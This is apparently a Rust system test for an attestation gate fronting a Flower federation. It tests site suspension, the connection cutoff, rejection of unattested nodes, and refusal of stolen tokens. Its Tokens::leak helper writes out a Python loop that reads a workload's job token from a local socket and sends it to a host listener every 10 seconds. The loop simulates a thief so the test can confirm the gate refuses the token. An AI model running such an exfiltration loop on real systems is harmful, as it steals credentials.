//! A real Flower federation behind a gate: SuperLink on this machine, SuperNodes in simulated confidential VMs, and one outside.

use std::collections::BTreeMap;
use std::io::Read;
use std::net::TcpListener;
use std::path::PathBuf;
use std::sync::{Arc, Mutex, PoisonError};
use std::thread::spawn;
use std::time::{Duration, Instant};

use coffer_token::Version1;
use coffer_token::lease::{Hello, Open};
use serde_json::Value;
use system_tests::lab::{Boot, Bundle, Flower, Lab, Process, Running, Service, Site, eventually};

use self::boot::BootKey;
use self::wire::{Door, refusal};

// The guest's side of a connection to a gate, as the gate's own tests have it.
#[path = "../../attest/gate/tests/support/boot.rs"]
#[expect(dead_code, reason = "the gate's own tests use the rest")]
mod boot;
#[path = "../../attest/gate/tests/support/wire.rs"]
#[expect(dead_code, reason = "the gate's own tests use the rest")]
mod wire;

/// Random bytes, as the two above ask for them.
fn random<const N: usize>() -> [u8; N] {
    let mut bytes = [0; N];
    std::fs::File::open("/dev/urandom").expect("a source").read_exact(&mut bytes).expect("bytes");
    bytes
}

/// The shortest schedule a site can have: tokens of 30 s, renewed after 20.
const CHECK_FREQUENCY_S: u32 = 60;
/// From the start of two VMs to SuperNodes that are online: two Pythons on emulated CPUs, on a machine that may be busy.
const ONLINE: Duration = Duration::from_secs(180);
/// A round of these: 20 s on an idle machine, and `PATIENCE_S` where a node does not answer.
const ROUND: Duration = Duration::from_secs(150);
/// What a round waits for its replies.
const PATIENCE_S: u32 = 60;
/// What issue and design promise: from the admin's word to the end of the last connection.
const CUT: Duration = Duration::from_secs(1);
/// A guest in quarantine asks once a minute; then the SuperNode starts and takes part.
const BACK: Duration = Duration::from_secs(60 + 240);
/// The VMs' own limit: longer than all of these.
const VM_LIMIT_S: &str = "1200";

#[test]
fn a_federated_run_goes_on_without_a_suspended_site_which_comes_back() {
    Federation::new("1.29.0").whole_story();
}

#[test]
fn long_the_same_with_flower_1_19() {
    Federation::new("1.19.0").whole_story();
}

#[test]
fn long_the_same_with_flower_1_41() {
    Federation::new("1.41.0").whole_story();
}

/// All of it, and two sites whose VMs run.
struct Federation {
    lab: Lab,
    flower: Flower,
    tokens: Tokens,
    sites: [(Bundle, Running); 2],
    _gate: Service,
    _superlink: Process,
    _service: Service,
}

impl Federation {
    fn new(version: &'static str) -> Self {
        let lab = Lab::new();
        let service = lab.serve();
        let flower = lab.use_flower(version, CHECK_FREQUENCY_S, "require = { at_least = 2 }\non_loss = \"continue\"");
        let superlink = flower.superlink();
        let gate = lab.serve_gate();
        refuses_a_run_without_sites(&flower);
        let tokens = Tokens::listen();
        let sites = [1, 2].map(|partition| {
            let name = format!("site-{partition}");
            let (script, kit) = lab.supernode(&flower, partition, &tokens.leak(&name));
            let schedule = format!("  check_frequency: {CHECK_FREQUENCY_S}\n  failure_action: stop_job\n");
            let bundle = lab.build(&Site { name: &name, script: &script, kit: false, more: &(schedule + &kit), ..Site::default() });
            lab.enroll(&bundle);
            let running = lab.start(&bundle, &["--timeout".as_ref(), VM_LIMIT_S.as_ref()]);
            (bundle, running)
        });
        Self { lab, flower, tokens, sites, _gate: gate, _superlink: superlink, _service: service }
    }

    fn whole_story(mut self) {
        let mut run = self.a_run_of_two();
        let stranger = self.a_node_nobody_attested();
        self.a_stolen_token_is_worth_nothing();
        let here = run.said().len();
        run.wait_for("asked 2 nodes", here, ROUND);

        // Mid-round: the site is cut at once, its container stops, and the run goes on.
        self.suspend_the_first();
        let here = run.said().len();
        self.sites[0].1.wait_for("coffer-init: workload stopped by=refusal");
        run.wait_for(": sites [2] of ", here, ROUND);

        system_tests::lab::run(&mut self.lab.admin(&["site", "resume", "demo/site-1", "--reason", "the drill is over"]));
        self.sites[0].1.wait_for("coffer-init: workload started again");
        let here = run.said().len();
        run.wait_for(": sites [1, 2] of 2 asked", here, BACK);

        self.never_online(stranger, &mut run);
        drop(run);
        self.end_in_order();
    }

    /// A run that the gate lets start when both sites are leased; it has had a round with both.
    fn a_run_of_two(&mut self) -> Process {
        eventually("two leases", ONLINE, || (self.is_leased("site-1") && self.is_leased("site-2")).then_some(()));
        let config = format!("rounds=40 nodes=2 seconds=4 patience={PATIENCE_S}");
        let mut run = self.flower.start_run("run", &config);
        run.wait_for(": sites [1, 2] of 2 asked", 0, ONLINE + ROUND);
        run
    }

    /// The SuperLink knows this node's key, and the gate is where it is told to go.
    fn a_node_nobody_attested(&self) -> (Process, PathBuf) {
        let key = self.flower.known_key();
        let node = self.flower.outside_node("stranger", &format!("localhost:{}", self.lab.gate_port()), &key);
        eventually("it fails", ONLINE, || {
            let said = node.said().to_lowercase();
            (said.contains("handshake") || said.contains("connection attempt failed")).then_some(())
        });
        (node, key)
    }

    /// Whatever it tried, no round had it. With the same key and no gate in front it takes part, so it was not the key.
    fn never_online(&self, (node, key): (Process, PathBuf), run: &mut Process) {
        assert!(!run.said().contains("asked 3 nodes"), "{}\n{}", run.said(), node.said());
        drop(node);
        let mut node = self.flower.outside_node("insider", &self.flower.fleet(), &key);
        let here = run.said().len();
        run.wait_for("asked 3 nodes", here, ROUND);
        node.assert_runs();
    }

    /// The token of a site that is leased right now, shown by somebody else's key.
    fn a_stolen_token_is_worth_nothing(&self) {
        let token = self.tokens.of("site-2");
        let ca = std::fs::read_to_string(self.lab.path("gate/tls/ca.pem")).expect("the gate's authority");
        let body: String = ca.lines().filter(|line| !line.starts_with("-----")).collect();
        let ca = data_encoding::BASE64.decode(body.as_bytes()).expect("PEM");
        let door = Door { address: format!("127.0.0.1:{}", self.lab.gate_port()), tls_name: "gate.demo.test".into(), ca };
        for open in [Open::Lease, Open::Tunnel] {
            let hello = Hello { v: Version1, open, token: token.clone(), node: None };
            let (_, answer) = door.hello(&BootKey::generate(), &hello).expect("an answer");
            assert_eq!(refusal(&answer).0, "not_the_key", "{answer:?}");
        }
        assert!(self.is_leased("site-2"), "the thief's tries took nothing from the owner");
    }

    /// Suspends the first site, and asserts that its VM has no connection to the gate any more within [`CUT`].
    fn suspend_the_first(&self) {
        let open = || self.sites[0].1.connections_to(self.lab.gate_port());
        assert!(open() >= 2, "a lease and a tunnel: {} connections; {}", open(), self.lab.gate_status());
        system_tests::lab::run(&mut self.lab.admin(&["site", "suspend", "demo/site-1", "--reason", "a drill"]));
        let said = Instant::now();
        eventually("the site's connections are cut", Duration::from_secs(10), || (open() == 0).then_some(()));
        let took = said.elapsed();
        eprintln!("from the suspension to the end of the site's last connection: {took:?}");
        assert!(took <= CUT, "cut only after {took:?}");
        assert!(!self.is_leased("site-1") && self.is_leased("site-2"), "{}", self.lab.gate_status());
    }

    fn is_leased(&self, site: &str) -> bool {
        self.lab.gate_status()["leases"].as_array().expect("leases").iter().any(|lease| lease["site"] == site)
    }

    fn end_in_order(self) {
        for (bundle, running) in self.sites {
            running.power_down();
            let boot: Boot = running.wait();
            let logs = bundle.logs();
            assert!(boot.said_by_guest("power-off") && logs.contains("round 1 done, loss"), "{boot:#?}\n{logs}");
        }
    }
}

/// Before any site holds a lease no run starts, and `flwr` says why.
fn refuses_a_run_without_sites(flower: &Flower) {
    let (code, said) = flower.start_run("early", "rounds=1").wait(Duration::from_secs(60));
    // Flower 1.19 prints any refusal and ends with 0.
    let failed = code != Some(0) || !flower.is_from(1, 23);
    assert!(failed && said.contains("coffer-gate starts no run: 0 of 2") && !said.contains("started run"), "{code:?}: {said}");
}

/// Where workloads send what they should keep to themselves: their job tokens.
struct Tokens {
    listener: TcpListener,
    got: Arc<Mutex<BTreeMap<String, String>>>,
}

impl Tokens {
    fn listen() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a free port");
        let got = Arc::new(Mutex::new(BTreeMap::new()));
        let (accepting, store) = (listener.try_clone().expect("a handle"), Arc::clone(&got));
        spawn(move || {
            for mut stream in accepting.incoming().flatten() {
                let mut said = String::new();
                // Whatever came before an error is looked at: a name, then an HTTP answer.
                let _ = stream.read_to_string(&mut said);
                let Some((name, answer)) = said.split_once('\n') else { continue };
                let body = answer.split_once("\r\n\r\n").map_or("", |(_, body)| body);
                let token = serde_json::from_str::<Value>(body).ok().and_then(|body| body["token"].as_str().map(str::to_owned));
                if let Some(token) = token {
                    store.lock().unwrap_or_else(PoisonError::into_inner).insert(name.to_owned(), token);
                }
            }
        });
        Self { listener, got }
    }

    /// Shell that sends this site's token here every 10 s, in the background.
    fn leak(&self, site: &str) -> String {
        let port = self.listener.local_addr().expect("its address").port();
        format!(
            r#"python3 -c '
import socket, time
while True:
    s = socket.socket(socket.AF_UNIX); s.connect("/run/coffer/attest.sock")
    s.sendall(b"GET /v1/token HTTP/1.1\r\nHost: coffer\r\nConnection: close\r\n\r\n")
    answer = b"".join(iter(lambda: s.recv(65536), b""))
    thief = socket.create_connection(("10.0.2.2", {port}))
    thief.sendall(b"{site}\n" + answer); thief.close(); time.sleep(10)
' &"#
        )
    }

    /// The newest token of this site.
    fn of(&self, site: &str) -> String {
        eventually("a token", ONLINE, || self.got.lock().unwrap_or_else(PoisonError::into_inner).get(site).cloned())
    }
}
